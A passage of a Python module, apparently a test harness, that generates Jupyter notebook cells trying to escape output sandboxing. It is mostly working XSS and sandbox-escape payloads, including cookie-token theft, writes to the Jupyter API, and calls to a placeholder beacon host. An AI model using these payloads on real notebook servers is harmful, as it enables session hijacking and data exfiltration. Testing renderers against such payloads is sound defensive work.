"""Cells that try to get out of their output: into the page, to the Jupyter server, to a network.

In: the address of a listening beacon. Out: Python cells. In what they display, `HIT` is JavaScript
that reports from wherever it runs: to the page (`__pwned`), to the Jupyter API (a file), to the
beacon. `BEACON` is an address that nothing may ask for.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass

# Single quotes only: it stands in attributes too.
_HIT = (
    "(()=>{const i='NAME';"
    "try{top.__pwned.push(i)}catch(e){}try{window.__pwned.push(i)}catch(e){}"
    "try{top.document.title='pwned'}catch(e){}"
    "try{fetch('BEACON/fetch')}catch(e){}try{new Image().src='BEACON/img'}catch(e){}"
    "try{const c=document.cookie.split('_xsrf=')[1]||'';fetch('/api/contents/pwned-NAME.txt',"
    "{method:'PUT',headers:{'X-XSRFToken':c.split(';')[0]},"
    "body:JSON.stringify({type:'file',format:'text',content:'x'})})}catch(e){}})()"
)
# A command of JupyterLab that leaves something to see: a file in the server's root.
_COMMAND = "docmanager:new-untitled"
_COMMAND_ARGS = '{"path":"","type":"file","ext":".pwned"}'

_HTML = {
    "script": "<script>HIT</script>",
    "script with an address": "<script src='BEACON/script.js'></script>",
    "script as a module": "<script type='module'>HIT</script>",
    "script in capitals": "<ScRiPt>HIT</sCrIpT>",
    "script split by another": "<scr<script>ipt>HIT</scr</script>ipt>",
    "script in svg": "<svg><script>HIT</script></svg>",
    "script in a table": "<table><script>HIT</script><tr><td>x</td></tr></table>",
    "script after an open comment": "<!-- --!><script>HIT</script> -->",
    "script in pandas' place": "<div><style scoped>.dataframe{}</style><script>HIT</script></div>",
    "onerror": '<img src=x onerror="HIT">',
    "onerror with a slash": '<img/src="x"/onerror="HIT">',
    "onload of svg": '<svg onload="HIT"></svg>',
    "onload of body": '<body onload="HIT">x</body>',
    "ontoggle": '<details open ontoggle="HIT"><summary>x</summary>y</details>',
    "onfocus": '<input autofocus onfocus="HIT">',
    "onanimationstart": "<style>@keyframes k{from{color:red}}</style>"
    '<b style="animation:k 1s" onanimationstart="HIT">x</b>',
    "onerror of video": '<video><source onerror="HIT" src="x"></video>',
    "onclick": '<b class="click" onclick="HIT">click</b>',
    "onbegin": '<svg><animate attributeName=x dur=1s onbegin="HIT"></svg>',
    "javascript link": '<a href="javascript:HIT">click</a>',
    "javascript link with a tab": '<a href="java&Tab;script:HIT">click</a>',
    "javascript link with a control": '<a href="&#1;javascript:HIT">click</a>',
    "javascript link in capitals": '<a href=" JaVaScRiPt:HIT">click</a>',
    "javascript link in svg": '<svg><a xlink:href="javascript:HIT"><text y="20">c</text></a></svg>',
    "javascript link in math": '<math><mtext><a href="javascript:HIT">c</a></mtext></math>',
    "javascript link in math itself": '<math href="javascript:HIT">click</math>',
    "javascript link to the top": '<a target="_top" href="javascript:HIT">click</a>',
    "data link": '<a href="data:text/html,<script>HIT</script>" target="_blank">click</a>',
    "form with a javascript action": '<form action="javascript:HIT"><button>go</button></form>',
    "form to the beacon": '<form action="BEACON/form"><input name=a value=b><button>go</button></form>',
    "form that sends itself": '<form id=f action="BEACON/auto" method=post></form>'
    "<script>document.getElementById('f').submit()</script>",
    "formaction": '<form><button formaction="javascript:HIT">go</button></form>',
    "iframe srcdoc": '<iframe srcdoc="<script>HIT</script>"></iframe>',
    "iframe javascript": '<iframe src="javascript:HIT"></iframe>',
    "iframe data": '<iframe src="data:text/html,<script>HIT</script>"></iframe>',
    "iframe of the beacon": '<iframe src="BEACON/frame"></iframe>',
    "iframe of the Jupyter API": '<iframe src="/api/contents?pwned=1"></iframe>',
    "iframe with its own sandbox": '<iframe sandbox="allow-scripts allow-same-origin" '
    'srcdoc="<script>HIT</script>"></iframe>',
    "object data": '<object data="data:text/html,<script>HIT</script>"></object>',
    "object of the beacon": '<object data="BEACON/object"></object>',
    "embed": '<embed src="BEACON/embed">',
    "embed javascript": '<embed src="javascript:HIT">',
    "base": '<base href="BEACON/"><img src="relative.png">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=BEACON/refresh">',
    "meta refresh to javascript": '<meta http-equiv="refresh" content="0;url=javascript:HIT">',
    "meta that lifts the policy": "<meta http-equiv='Content-Security-Policy' "
    "content=\"default-src *\"><img src='BEACON/meta.png'>",
    "link stylesheet": '<link rel="stylesheet" href="BEACON/style.css">',
    "link preload": '<link rel="preload" as="image" href="BEACON/preload.png">',
    "link prefetch": '<link rel="prefetch" href="BEACON/prefetch">',
    "image of the beacon": '<img src="BEACON/img.png">',
    "image without a scheme": '<img src="PROTOCOL/img.png">',
    "image srcset": '<img srcset="BEACON/srcset.png 1x">',
    "image of the Jupyter API": '<img src="/api/contents?pwned=1">',
    "image that logs out": '<img src="/logout?pwned=1">',
    "background of a table": '<table background="BEACON/table.png"><tr><td>x</td></tr></table>',
    "video poster": '<video poster="BEACON/poster.png" src="BEACON/video.mp4"></video>',
    "ping": '<a href="#" ping="BEACON/ping">click</a>',
    "css of the page": "<style>body{--pwned:1}.jp-Notebook{outline:9px solid red}</style>",
    "css import": "<style>@import url(BEACON/import.css);</style>",
    "css font": "<style>@font-face{font-family:p;src:url(BEACON/font)}b{font-family:p}</style><b>x</b>",
    "css in a style attribute": '<b style="background:url(BEACON/style.png)">x</b>',
    "css in pandas' block": "<style scoped>.dataframe th{color:red}body{--pwned:1}</style>"
    "<table class='dataframe'><tr><th>x</th></tr></table>",
    "css beside a styled table": '<style type="text/css">#T_a ~ *{--pwned:1}'
    "#T_a{background:url(BEACON/styler.png)}</style><table id='T_a'></table>",
    "css that ends its element": "<style scoped>.dataframe{}</style></style><script>HIT</script>",
    "overlay": '<div id="pwned-overlay" style="position:fixed;inset:0;z-index:99999">x</div>',
    "overlay by the page's classes": '<div id="pwned-overlay" class="jp-Dialog">sign in</div>',
    "overlay by a negative margin": '<div id="pwned-overlay" style="margin-top:-500px">x</div>',
    "command linker": f"<button data-commandlinker-command='{_COMMAND}' "
    f"data-commandlinker-args='{_COMMAND_ARGS}'>click</button>",
    "command linker on a plain element": f"<b data-commandlinker-command='{_COMMAND}' "
    f"data-commandlinker-args='{_COMMAND_ARGS}'>click</b>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "mutation by mathml": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=HIT&gt;">',
    "mutation by svg style": '<svg></p><style><a id="</style><img src=1 onerror=HIT>">',
    "mutation by template": "<template><script>HIT</script></template>"
    "<script>document.body.append(document.querySelector('template').content)</script>",
    "mutation by textarea": '<textarea><img title="</textarea><img src=x onerror=HIT>"></textarea>',
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=HIT>"></xmp>',
    "mutation by form and math": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=HIT>",
    "mutation by a null": "<im\\0g src=x onerror=HIT><img src=x onerror\\0=HIT>",
    "breaking out of srcdoc": '"></iframe><img src=x onerror="HIT"><iframe srcdoc="<script>1</script>',
    "breaking out by entities": "&quot;&gt;&lt;/iframe&gt;&lt;img src=x onerror=HIT&gt;<script></script>",
    "breaking out by doubled entities": "&amp;quot;&amp;gt;&amp;lt;img src=x onerror=HIT&amp;gt;"
    "<script>1</script>",
    "breaking out of the fallback": "<script>1</script></iframe><img src=x onerror='HIT'>",
    "our own frame, but open": '<div style="resize:vertical"><iframe title="Output of the sandbox, '
    'contained" sandbox="allow-scripts allow-same-origin" srcdoc="<script>HIT</script>"></iframe></div>',
    "parent document": "<script>parent.document.title='pwned';parent.__pwned.push('NAME')</script>",
    "top document": "<script>top.document.body.innerHTML='pwned'</script>",
    "frame element": "<script>frameElement.removeAttribute('sandbox');HIT</script>",
    "top navigation": "<script>top.location='BEACON/top'</script>",
    "parent navigation": "<script>parent.location='BEACON/parent'</script>",
    "own navigation": "<script>location='BEACON/own'</script>",
    "own navigation to javascript": "<script>location='javascript:'+encodeURI(`HIT`)</script>",
    "own navigation by a link": "<a id=l href='BEACON/link'>x</a><script>l.click()</script>",
    "navigation of a new frame": "<iframe name=n></iframe><script>window.open('BEACON/named','n')</script>",
    "history": "<script>history.go(-1);history.back()</script>",
    "popup": "<script>const w=window.open('BEACON/popup');w&&w.opener.__pwned.push('NAME')</script>",
    "popup of the page": "<script>const w=window.open('/lab');try{w.opener.top.__pwned.push('NAME')}"
    "catch(e){}</script>",
    "link to a new window": "<a target=_blank href='BEACON/blank'>x</a>"
    "<script>document.querySelector('a').click()</script>",
    "service worker": "<script>navigator.serviceWorker.register('BEACON/sw.js')</script>",
    "worker": "<script>new Worker('BEACON/worker.js')</script>",
    "worker of a blob": "<script>new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('BEACON/blobworker');importScripts('BEACON/imported.js')\"])))</script>",
    "import": "<script>import('BEACON/module.js')</script>",
    "beacon": "<script>navigator.sendBeacon('BEACON/send','x')</script>",
    "websocket": "<script>new WebSocket('BEACON/ws'.replace('http','ws'))</script>",
    "event source": "<script>new EventSource('BEACON/events')</script>",
    "XMLHttpRequest": "<script>x=new XMLHttpRequest;x.open('GET','BEACON/xhr');x.send()</script>",
    "Jupyter API with credentials": "<script>fetch('/api/contents/pwned-NAME.txt',{method:'PUT',"
    "credentials:'include',body:'{}'});fetch('/api/kernels?pwned=1',{credentials:'include',"
    "mode:'no-cors'})</script>",
    "post to the parent": "<script>parent.postMessage('pwned','*')</script>",
    "storage": "<script>localStorage.pwned=1;document.cookie='pwned=1';top.__pwned.push('s')</script>",
    "modal": "<script>alert('pwned');confirm('pwned');prompt('pwned')</script>",
    "download": "<a download=pwned href='data:text/plain,x'>x</a>"
    "<script>document.querySelector('a').click()</script>",
    "frame of the page": "<script>const f=document.createElement('iframe');f.src=location.ancestorOrigins"
    "?.[0]+'/lab';document.body.append(f);f.onload=()=>{try{f.contentWindow.eval('1');"
    "top.__pwned.push('NAME')}catch(e){}}</script>",
    "name of the window": "<script>window.name='pwned';top.name='pwned'</script>",
    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list",'
    '"urls":["BEACON/speculated"]}],"prerender":[{"source":"list","urls":["BEACON/prerendered"]}]}'
    "</script>",
}

_MARKDOWN = {
    "markdown with a script": "# x\n\n<script>HIT</script>",
    "markdown with a handler": "text <img src=x onerror=HIT>",
    "markdown link": "[click](javascript:HIT)",
    "markdown link by reference": "[click][x]\n\n[x]: javascript:HIT",
    "markdown link with entities": "[click](&#106;avascript:HIT)",
    "markdown autolink": "<javascript:HIT>",
    "markdown image": "![x](BEACON/markdown.png)",
    "markdown image by reference": "![x][y]\n\n[y]: BEACON/reference.png",
    "markdown in html in markdown": "<div>\n\n**x** <b onclick=HIT class=click>c</b>\n\n</div>",
    "markdown code that ends": "```html\n</code></pre><img src=x onerror=HIT>\n```\n<svg onload=HIT>",
    "markdown with a drawing": "```mermaid\nflowchart TD\nA@{ img: 'BEACON/mermaid.png', label: 'x' }\n```",
    "markdown with a linked drawing": '```mermaid\nflowchart TD\nA-->B\nclick A href "javascript:HIT"\n```',
    "markdown with a formula that links": "$\\\\href{javascript:HIT}{click}$",
    "markdown command linker": f"<a data-commandlinker-command='{_COMMAND}' "
    f"data-commandlinker-args='{_COMMAND_ARGS}'>click</a>",
}

_BUNDLES: dict[str, tuple[dict[str, object], dict[str, object]]] = {
    "application/javascript": ({"application/javascript": "HIT"}, {}),
    "text/javascript": ({"text/javascript": "HIT", "text/plain": "x"}, {}),
    "javascript beside html": (
        {"application/javascript": "HIT", "text/html": "<b>x</b>", "text/plain": "x"},
        {},
    ),
    "isolated": ({"text/html": "<script>HIT</script>"}, {"isolated": True}),
    "isolated for its type": (
        {"text/html": "<b>b</b><script>HIT</script>"},
        {"text/html": {"isolated": True}},
    ),
    "html under another name": (
        {"text/html; charset=utf-8": "<script>HIT</script>", "TEXT/HTML": "<script>HIT</script>"},
        {},
    ),
    "html as lines": ({"text/html": ["<scr", "ipt>HIT</script>"]}, {}),
    "svg with a script": (
        {
            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"HIT\">"
            "<script>HIT</script><image href='BEACON/svg.png' width='9' height='9'/></svg>"
        },
        {},
    ),
    "svg with a document": (
        {
            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe "
            "xmlns='http://www.w3.org/1999/xhtml' src='javascript:HIT'/></foreignObject></svg>"
        },
        {},
    ),
    "png that is none": ({"image/png": 'x" onerror="HIT', "text/plain": "x"}, {}),
    "latex": ({"text/latex": "$\\href{javascript:HIT}{click}$"}, {}),
    "latex with classes": (
        {
            "text/latex": "$\\class{jp-Dialog}{x}\\cssId{pwned-overlay}{y}\\style{position:fixed}{z}$"
        },
        {},
    ),
    "json": ({"application/json": {"__proto__": {"pwned": 1}, "x": "<script>HIT</script>"}}, {}),
    "vega-lite that loads": (
        {
            "application/vnd.vegalite.v5+json": {
                "data": {"url": "BEACON/vega.json"},
                "mark": "bar",
                "encoding": {"x": {"field": "a", "type": "quantitative"}},
            }
        },
        {},
    ),
    "vega-lite with pictures": (
        {
            "application/vnd.vegalite.v5+json": {
                "data": {"values": [{"u": "BEACON/vegaimage.png"}]},
                "mark": {"type": "image", "width": 9, "height": 9},
                "encoding": {"url": {"field": "u", "type": "nominal"}},
            }
        },
        {},
    ),
    "vega options": (
        {
            "application/vnd.vegalite.v5+json": {
                "data": {"values": [{"a": 1}]},
                "mark": "bar",
                "encoding": {"x": {"field": "a", "type": "quantitative"}},
                "usermeta": {"embedOptions": {"config": "BEACON/usermeta.json"}},
            }
        },
        {
            "application/vnd.vegalite.v5+json": {
                "embed_options": {"patch": "BEACON/patch.json", "config": "BEACON/config.json"}
            }
        },
    ),
    "vega whose source is looked at": (
        {
            "application/vnd.vegalite.v5+json": {
                "description": "</code></pre><script>opener.__pwned.push('NAME')</script>",
                "data": {"values": [{"a": 1}]},
                "mark": "bar",
                "encoding": {"x": {"field": "a", "type": "quantitative"}},
            }
        },
        {},
    ),
    "vega of the Jupyter API": (
        {
            "application/vnd.vega.v5+json": {
                "data": [{"name": "d", "url": "/api/contents?pwned=1"}],
                "marks": [
                    {"type": "image", "encode": {"enter": {"url": {"value": "BEACON/v.png"}}}}
                ],
            }
        },
        {},
    ),
    "plotly with a picture": (
        {
            "application/vnd.plotly.v1+json": {
                "data": [{"y": [1, 2]}],
                "layout": {
                    "images": [
                        {"source": "BEACON/plotly.png", "sizex": 1, "sizey": 1, "x": 0, "y": 1}
                    ],
                    "title": {"text": "<a href='javascript:HIT'>click</a>"},
                },
            }
        },
        {},
    ),
    "plotly map": (
        {
            "application/vnd.plotly.v1+json": {
                "data": [{"type": "scattermap", "lat": [1], "lon": [1]}],
                "layout": {"map": {"style": "BEACON/style.json"}},
            }
        },
        {},
    ),
    "bokeh's loader": ({"application/vnd.bokehjs_load.v0+json": "HIT", "text/plain": "x"}, {}),
    "widget state": ({"application/vnd.jupyter.widget-state+json": {"state": {}}}, {}),
    "pdf": ({"application/pdf": "JVBERi0xLjQK", "text/plain": "x"}, {}),
    "standard output as a type": (
        {"application/vnd.jupyter.stdout": "<script>HIT</script>", "text/plain": "x"},
        {},
    ),
}

_CODE = {
    "update of a display": "h = display('x', display_id=True)\nh.update(HTML({script}))",
    "update of the type": "h = display(HTML('<b>x</b>'), display_id=True)\n"
    "h.update({{'application/javascript': {hit}}}, raw=True)",
    "clear and display": "from IPython.display import clear_output\nclear_output(wait=True)\n"
    "display(HTML({script}))",
    "result": "HTML({handler})",
    "result as javascript": "Javascript({hit})",
    "styled repr": "type('R', (), {{'_repr_html_': lambda s: {script}, "
    "'_repr_javascript_': lambda s: {hit}}})()",
    "IFrame": "IFrame('BEACON/iframe', 100, 50)",
    "Image by address": "Image(url='BEACON/image.png')",
    "Video by address": "Video('BEACON/video.mp4')",
    "print": "print({script}); print('\\x1b]8;;javascript:1\\x07x\\x1b]8;;\\x07')",
    "error": "raise type({script}, (Exception,), {{}})({script})",
    "pager": "get_ipython().payload_manager.write_payload(dict(source='page', start=0, "
    "data={{'text/html': {script}, 'text/plain': 'x'}}))",
    "HTML widget": "import ipywidgets as w\nw.HTML({handler})",
    "HTML widget, later": "x = w.HTML('x')\ndisplay(x)\nx.value = {handler}",
    "HTMLMath widget": "w.HTMLMath({handler})",
    "widget with the view of HTML": "x = w.Text({handler})\nx._view_name = 'HTMLView'\ndisplay(x)\n"
    "x.send_state()",
    "widget description": "w.Text(description={handler}, description_allow_html=True)",
    "widget command linker": "w.HTML(\"<b data-commandlinker-command='"
    + _COMMAND
    + "' data-commandlinker-args='"
    + _COMMAND_ARGS.replace('"', '\\"').replace("{", "{{").replace("}", "}}")
    + "'>click</b>\")",
    "linked widgets": "a, b = w.Text('x'), w.HTML('y')\nl = w.jsdlink((a, 'value'), (b, 'value'))\n"
    "display(w.VBox([a, b]))\na.value = {handler}",
    "Output widget": "o = w.Output()\ndisplay(o)\no.outputs = ({{'output_type': 'display_data', "
    "'data': {{'text/html': {script}, 'application/javascript': {hit}}}, 'metadata': {{}}}},)",
    "Output widget that captures": "o2 = w.Output()\ndisplay(o2)\nwith o2:\n    display(HTML({script}))",
    "Image widget by address": "w.Image(value=b'BEACON/widget.png', format='url')",
    "style of a widget": "w.HTML('x', style={{'background': 'url(BEACON/widgetstyle.png)'}})",
    "classes of a widget": "x = w.HTML('<b id=pwned-overlay>x</b>')\nx.add_class('jp-Dialog')\nx",
    "another package's widget": "import traitlets as t\nclass Evil(w.DOMWidget):\n"
    "    _view_name = t.Unicode('V').tag(sync=True)\n"
    "    _view_module = t.Unicode('BEACON/evil').tag(sync=True)\n"
    "    _view_module_version = t.Unicode('1').tag(sync=True)\nEvil()",
    "a comm of its own": "from comm import create_comm\ncreate_comm(target_name='jupyterlab', data={{}})",
}


_SHOWN = re.compile(r"display\((?:\{'([^']+)'|([\w.]+)\()")


@dataclass(frozen=True)
class Payload:
    """A cell and what its HIT is called."""

    name: str
    code: str

    @property
    def kind(self) -> str:
        """What it displays: a MIME type, or what makes it."""
        if shown := _SHOWN.match(self.code):
            return str(shown[1] or shown[2])
        return "widget" if "w." in self.code or "create_comm" in self.code else "code"


def dealt(payloads: list[Payload], parts: int) -> list[list[Payload]]:
    """The payloads in so many parts, each of which has some of every kind; together they have all.

    A kind that has fewer than that is in more than one part.
    """
    kinds: dict[str, list[Payload]] = {}
    for payload in payloads:
        kinds.setdefault(payload.kind, []).append(payload)
    return [
        [payload for kind in kinds.values() for payload in kind[part % len(kind) :: parts]]
        for part in range(parts)
    ]


def escape_payloads(beacon: str) -> list[Payload]:
    """All payloads; their beacons lead to that address."""
    cells = [(name, f"display(HTML({html!r}))") for name, html in _HTML.items()]
    cells += [(name, f"display(Markdown({text!r}))") for name, text in _MARKDOWN.items()]
    cells += [
        (name, f"display({data!r}, raw=True, metadata={metadata!r})")
        for name, (data, metadata) in _BUNDLES.items()
    ]
    literals = {
        "script": json.dumps("<script>HIT</script>"),
        "handler": json.dumps('<img src=x onerror="HIT">'),
        "hit": json.dumps("HIT"),
    }
    cells += [(name, code.format(**literals)) for name, code in _CODE.items()]
    return with_beacon(cells, beacon, "p")


def with_beacon(cells: list[tuple[str, str]], beacon: str, prefix: str) -> list[Payload]:
    """Named cells as payloads, whose HITs are called by the prefix and their number."""
    payloads = []
    for number, (name, code) in enumerate(cells):
        hit = f"{prefix}{number}"
        named = code.replace("HIT", _in_literal(_HIT)).replace("NAME", hit)
        named = named.replace("BEACON", f"{beacon}/{hit}")
        named = named.replace("PROTOCOL", f"{beacon.partition(':')[2]}/{hit}")
        payloads.append(Payload(name, named))
    return payloads


def _in_literal(script: str) -> str:
    """The script as it stands in a Python literal of either quotes."""
    return script.replace("'", "\\x27")


SETUP = (
    "from IPython.display import HTML, IFrame, Image, Javascript, Markdown, Video, display\n"
    "import ipywidgets as w"
)


# Markdown and TeX. What the page takes out of Markdown as mathematics and puts back, unescaped for
# quotes, leaves an attribute by this; it acts without a click.
_LEAVES = (
    '" style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="HIT" b="'
)
_PLACEHOLDERS = {
    "a placeholder in an address": f"[x](https://a/@\\@0@@) and ${_LEAVES}$",
    "a placeholder in a title": f'[x](https://a "@\\@0@@") and ${_LEAVES}$',
    "a placeholder in a reference": f"[x][r] and ${_LEAVES}$\n\n[r]: https://a/@\\@0@@",
    "a placeholder in an autolink": f"<https://a/@&#64;0@@> and ${_LEAVES}$",
    "a placeholder by an entity": f"[x](https://a/@&commat;0@@) and ${_LEAVES}$",
    "a placeholder of displayed mathematics": f"[x](https://a/&#x40;@0@@) and $${_LEAVES}$$",
    "a placeholder of an environment": f"[x](https://a/@\\@0@@)\n\\begin{{x}}{_LEAVES}\\end{{x}}",
    "a placeholder of brackets": f"[x](https://a/@\\@0@@) and \\\\({_LEAVES}\\\\)",
    "a placeholder in an info string": f"```@&#64;0@@\nx\n```\n\n${_LEAVES}$",
    "a placeholder in a picture's text": f"![@\\@0@@](https://a/x.png) and ${_LEAVES}$",
    "mathematics in an address": f"[x](https://a/${_LEAVES.replace(' ', chr(9))}$)",
    "mathematics in an address, in brackets": f"[x](<https://a/${_LEAVES}$>)",
    "mathematics in a title": f"[x](https://a '${_LEAVES}$')",
    "mathematics of a brace left open": f"$ {{ $ [x](https://a/$}}{_LEAVES}$)",
    "mathematics over two code spans": f"`$` [x](https://a/`{_LEAVES}$)",
    "mathematics in an attribute": f"<a title=$>{_LEAVES}$>x</a>",
    "a task that is none": "- [ ](javascript:HIT)\n- [x]: javascript:HIT",
    "an expression for the kernel": "{eval}`__import__('os').system('touch pwned')` :::{raw} HIT",
}
# A link, a class, an id, an address to load, a command: none of them may come out of MathJax.
_TEX = {
    "a link": r"$\href{javascript:HIT}{click}$",
    "a link with a space": r"$\href {java script:HIT}{click}$",
    "a link by an argument": r"$\text\href{javascript:HIT}{click}$",
    "a link in text": r"$\text{a $\href{javascript:HIT}{click}$ b}$",
    "a link in text in brackets": r"$\mbox{a \(\href{javascript:HIT}{click}\) b}$",
    "a link in an environment": "\\begin{align}a&=b\\\\\\href{javascript:HIT}{click}\\end{align}",
    "a link in another environment": r"\begin{\href{javascript:HIT}{click}}x\end{x}",
    "a link after a comment": "$% $\n\\href{javascript:HIT}{click}$",
    "a link whose name a comment splits": "$\\hre%\nf{javascript:HIT}{click}$",
    "a link over two lines": "$\\href\n{javascript:HIT}\n{click}$",
    "a link after an escaped dollar": r"\$ $\href{javascript:HIT}{click}$",
    "a link after a new line": r"$x\\\href{javascript:HIT}{click}$",
    "a link by a definition": r"$\def\x{\href{javascript:HIT}{click}}\x$",
    "a link by a name in parts": r"$\csname hr\endcsname\csname ef\endcsname{javascript:HIT}{c}$",
    "a link by let": r"$\let\x=\href \x{javascript:HIT}{click}$",
    "a link by a new command": r"$\newcommand{\x}[2]{\href{#1}{#2}}\x{javascript:HIT}{click}$",
    "a link by an active character": r"$\catcode`\~=13 \def~{\href}~{javascript:HIT}{click}$",
    "a link by unicode": r"$\unicode{x5c}href{javascript:HIT}{click}$",
    "a link by letters of the same look": "$\\hr\uff45f{javascript:HIT}{x}\\\u210eref{javascript:HIT}{c}$",
    "a reference": r"$x\tag{a}\label{b}$ \eqref{b}",
    "a class": r"$\class{jp-Dialog}{x}$",
    "an id": r"$\cssId{pwned-overlay}{x}$",
    "a style": r"$\style{position:fixed;inset:0;background:url(BEACON/tex.png);--pwned:1}{x}$",
    "data of a command": rf"$\data{{commandlinker-command={_COMMAND}}}{{click}}$",
    "a token": r"$\mmlToken{mi}[href='javascript:HIT' class='jp-Dialog' id='pwned-overlay']{click}$",
    "a picture": r"$\includegraphics{BEACON/tex.png}$",
    "an action": r"$\toggle{\href{javascript:HIT}{a}}{b}\endtoggle\mathtip{a}{\href{javascript:HIT}{b}}$",
    "a package": r"$\require{html}\require{BEACON/tex}\href{javascript:HIT}{click}$",
    "verbatim": r"$\verb|$|\href{javascript:HIT}{click}$",
    "a box's style": r"$\bbox[background:url(BEACON/bbox.png),border:9px solid]{x}$",
    "a column's preamble": r"$\begin{array}{>{\href{javascript:HIT}{click}}c}x\end{array}$",
    "a rule over the page": r"$\raise 99em{\rule{9999em}{9999em}}$",
    "columns without end": r"\begin{alignat}{999999999}x\end{alignat}",
    "a bomb": "$" + r"\pmb{" * 40 + "x" + "}" * 40 + "$",
    "depth": "$" + "{" * 20_000 + "$",
    "styles without end": "$" + r"\displaystyle\\" * 2_000 + "$",
}
# HTML in which MathJax would find one of them.
_TEX_IN_HTML = {
    "entities": "$&#92;href{javascript:HIT}{click}$",
    "entities, all of it": "&#36;&bsol;h&#x72;ef&lbrace;javascript&colon;HIT}{click}&dollar;",
    "an entity without its end": "$&#92href{javascript:HIT}{click}$",
    "a name that a tag splits": "$\\hr<b></b>ef{javascript:HIT}{click}$",
    "a name that an unknown tag splits": "$\\hr<x-y></x-y>ef{javascript:HIT}{click}$",
    "a name that a stray end tag splits": "$\\hr</b>ef{javascript:HIT}{click}$",
    "a name that a misplaced tag splits": "$\\hr<tr></tr>ef{javascript:HIT}{click}$",
    "a name that a possible break splits": "$\\hr<wbr>ef{javascript:HIT}{click}$",
    "a name that a comment splits": "$\\hr<!-- -->ef{javascript:HIT}{click}$",
    "a name that a style splits": "$\\hr<style>.dataframe td{text-align:left}</style>ef{javascript:HIT}{c}$",
    "a name that a ruby splits": "$\\hr<ruby></ruby>ef{javascript:HIT}{click}$",
    "a formula over lines": "$<br>\\href<br>{javascript:HIT}{click}<br>$",
    "a formula over pandas' cells": "<table><tr>$<td>x</td>\\href{javascript:HIT}{click}$</tr></table>",
    "the end of a wrapper": "</div></div></span>$\\href{javascript:HIT}{click}$",
    "a processed class": '<b class="mathjax_process tex2jax_process">$\\href{javascript:HIT}{c}$</b>',
    "an ignored class that ends": '<b class="mathjax_ignore">$x$</b>$\\href{javascript:HIT}{click}$',
}


def mathematics_payloads(beacon: str) -> dict[str, list[Payload]]:
    """Payloads of Markdown and TeX, by what they use; their beacons lead to that address."""
    shown = {
        "placeholders": (("Markdown",), _PLACEHOLDERS),
        "tex": (("Markdown", "Latex", "HTML", "w.HTMLMath"), _TEX),
        "html": (("HTML", "Markdown", "w.HTMLMath"), _TEX_IN_HTML),
    }
    return {
        use: [
            Payload(f"{name}, {kind}", _mathematics_cell(kind, text, f"{use}{number}", beacon))
            for number, (name, text) in enumerate(texts.items())
            for kind in kinds
        ]
        for use, (kinds, texts) in shown.items()
    }


def _mathematics_cell(kind: str, text: str, name: str, beacon: str) -> str:
    code = f"display({kind}({text!r}))".replace("HIT", _in_literal(_HIT))
    return code.replace("NAME", name).replace("BEACON", f"{beacon}/{name}")


# --- Charts ---------------------------------------------------------------------------------------

_VEGA, _LITE = "application/vnd.vega.v5+json", "application/vnd.vegalite.v5+json"
_PLOTLY = "application/vnd.plotly.v1+json"
_INPUT: dict[str, object] = {"input": "text", "type": "image", "src": "x", "onerror": "HIT"}
_OVER: dict[str, object] = {"element": "body", "input": "text", "id": "pwned-overlay"}
_BAR: dict[str, object] = {
    "data": {"values": [{"a": 1, "b": "x"}]},
    "mark": "bar",
    "encoding": {"x": {"field": "a", "type": "quantitative"}},
}
_RECT = {"width": {"value": 200}, "height": {"value": 200}, "fill": {"value": "red"}}


def _bound(bind: dict[str, object]) -> dict[str, object]:
    return {"signals": [{"name": "s", "value": "", "bind": bind}]}


def _heard(events: object) -> dict[str, object]:
    """Loads an address with what was heard."""
    return {
        "signals": [{"name": "k", "value": "0", "on": [{"events": events, "update": "k+'1'"}]}],
        "data": [{"name": "d", "url": {"signal": "'BEACON/heard'+k"}}],
    }


def _marked(**encoded: object) -> dict[str, object]:
    return {
        "width": 200,
        "height": 200,
        "marks": [{"type": "rect", "encode": {"enter": {**_RECT, **encoded}}}],
    }


_VEGA_CHARTS: dict[str, tuple[str, object]] = {
    "vega, attributes of a bound input": (_VEGA, _bound(_INPUT)),
    "vega, attributes of a bound range": (
        _VEGA,
        _bound({"input": "range", "min": 0, "max": 9, "autofocus": "", "onfocus": "HIT"}),
    ),
    "vega, attributes of a bound list": (
        _VEGA,
        _bound({"input": "select", "options": ["a", "b"], "autofocus": "", "onfocus": "HIT"}),
    ),
    "vega, attributes of a bound box": (
        "application/vnd.vega.v5.json",
        _bound({**_INPUT, "input": "checkbox"}),
    ),
    "vega-lite, attributes of a bound parameter": (
        _LITE,
        {**_BAR, "params": [{"name": "p", "value": "", "bind": _INPUT}]},
    ),
    "vega-lite, attributes of a bound selection": (
        "application/vnd.vegalite.v4+json",
        {**_BAR, "selection": {"s": {"type": "single", "fields": ["a"], "bind": _INPUT}}},
    ),
    "vega-lite, attributes of a parameter of a layer": (
        _LITE,
        {"layer": [{**_BAR, "params": [{"name": "p", "value": "", "bind": _INPUT}]}]},
    ),
    "vega, an input laid over the page": (
        _VEGA,
        _bound({**_OVER, "style": "position:fixed;inset:0"}),
    ),
    "vega, an input in the notebook": (_VEGA, _bound({**_OVER, "element": ".jp-Notebook"})),
    "vega, an input in the document": (_VEGA, _bound({**_OVER, "element": "html"})),
    "vega, a list laid over the page": (
        _VEGA,
        _bound({**_OVER, "input": "radio", "options": ["a"]}),
    ),
    "vega 6, an input laid over the page": ("application/vnd.vega.v6+json", _bound(_OVER)),
    "vega-lite, an input laid over the page": (
        _LITE,
        {**_BAR, "params": [{"name": "p", "value": "", "bind": _OVER}]},
    ),
    "vega, keys typed elsewhere in the page": (
        _VEGA,
        _heard({"source": "body", "type": "keydown"}),
    ),
    "vega, clicks elsewhere in the page": (_VEGA, _heard({"source": "body", "type": "click"})),
    "vega, moves of the window": (_VEGA, _heard({"source": "window", "type": "mousemove"})),
    "vega, events by a selector": (_VEGA, _heard("body:click, window:keydown")),
    "vega, a timer": (_VEGA, _heard({"type": "timer", "throttle": 100})),
    "vega-lite, a selection by the page's keys": (
        _LITE,
        {
